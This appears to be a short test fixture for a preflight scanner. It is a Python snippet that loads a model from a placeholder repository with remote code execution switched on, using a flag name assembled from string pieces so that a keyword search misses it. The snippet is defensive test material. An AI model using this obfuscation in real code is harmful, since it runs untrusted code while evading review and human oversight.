# wants: run a stranger's code while loading, spelled so that a search does not find it
# caught by: preflight
# as: train.py
import transformers

settings = {"".join(("trust", "_remote", "_code")): not False}
model = getattr(transformers, "Auto" + "ModelForCausalLM").from_pretrained("acme-lab/odd", **settings)
